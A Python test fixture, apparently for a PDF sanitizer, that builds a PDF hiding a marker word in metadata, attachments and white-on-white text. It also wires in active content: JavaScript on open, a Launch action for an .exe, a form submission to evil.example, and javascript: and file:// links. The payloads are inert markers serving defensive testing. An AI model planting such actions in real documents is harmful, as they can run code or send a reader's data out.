"""A paper that tells of its author in every place that a PDF has, and does all that a PDF can do."""

from pikepdf import Array, AttachedFileSpec, Dictionary, Name, Pdf, Stream, String

from tests.intake.hostile import new, text_operators, written

HIDDEN = "Unseen"


def telling_pdf(word: str = "Zacatecas", *, words: str = "") -> bytes:
    """`word` is said in its properties, its XMP, its attachment, its bookmark, a script and a form; `words` on its
    page; and `HIDDEN` with `word` in white on white."""
    pdf = new(2)
    for page in pdf.pages:
        content = text_operators(1) + f" BT /F1 12 Tf 72 600 Td ({words}) Tj ET".encode()
        content += f" q 1 g BT /F1 12 Tf 72 500 Td ({HIDDEN} {word}) Tj ET Q".encode()
        page.obj[Name.Contents] = pdf.make_indirect(Stream(pdf, content))
    _says(pdf, word)
    _does(pdf, word)
    _asks(pdf, word)
    return written(pdf, static_id=True)


def _says(pdf: Pdf, word: str) -> None:
    for key in ("Author", "Creator", "Subject", "Keywords", "Title", "Company"):
        pdf.docinfo[f"/{key}"] = f"{key} {word}"
    xmp = f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><author>{word}</author></x:xmpmeta>'
    pdf.Root[Name.Metadata] = Stream(pdf, xmp.encode(), Type=Name.Metadata, Subtype=Name.XML)
    page = pdf.pages[0].obj
    page[Name.PieceInfo] = Dictionary(Editor=Dictionary(Private=String(word), LastModified=String("D:2020")))
    page[Name.Thumb] = Stream(pdf, b"\x00", Width=1, Height=1, ColorSpace=Name.DeviceGray, BitsPerComponent=8)
    pdf.attachments[f"{word}.txt"] = AttachedFileSpec(pdf, word.encode(), description=word)


def _does(pdf: Pdf, word: str) -> None:
    script = Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{word}')"))
    pdf.Root[Name.OpenAction] = script
    pdf.Root[Name.AA] = Dictionary(WC=script)
    actions = (
        Dictionary(S=Name.Launch, F=String(f"{word}.exe")),
        Dictionary(S=Name.GoToR, F=String(f"{word}.pdf"), D=Array([0, Name.Fit])),
        Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String(word))),
        Dictionary(S=Name.SubmitForm, F=String(f"https://evil.example/{word}")),
        Dictionary(S=Name.ImportData, F=String(f"{word}.fdf")),
        Dictionary(S=Name.URI, URI=String(f"file:///srv/{word}")),
        Dictionary(S=Name.URI, URI=String(f"javascript:{word}")),
    )
    links = [
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, y, 200, y + 10]), A=action))
        for y, action in zip(range(100, 400, 20), actions, strict=False)
    ]
    media = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([300, 300, 400, 400]), NM=String(word))
    pdf.pages[0].obj[Name.Annots] = Array([*links, pdf.make_indirect(media)])


def _asks(pdf: Pdf, word: str) -> None:
    """A form that was filled in, without a drawing of what was filled in, and with a script behind it."""
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), V=String("Filled in by hand"),
            Rect=Array([72, 440, 400, 460]), DA=String("/F1 12 Tf 0 g"), F=4,
            AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String(word))),
        )
    )  # fmt: skip
    pdf.pages[1].obj[Name.Annots] = Array([field])
    font = pdf.pages[0].obj[Name.Resources][Name.Font][Name.F1]
    pdf.Root[Name.AcroForm] = Dictionary(
        Fields=Array([field]), DR=Dictionary(Font=Dictionary(F1=font)), DA=String("/F1 12 Tf 0 g"),
        XFA=Stream(pdf, f"<xdp>{word}</xdp>".encode()),
    )  # fmt: skip
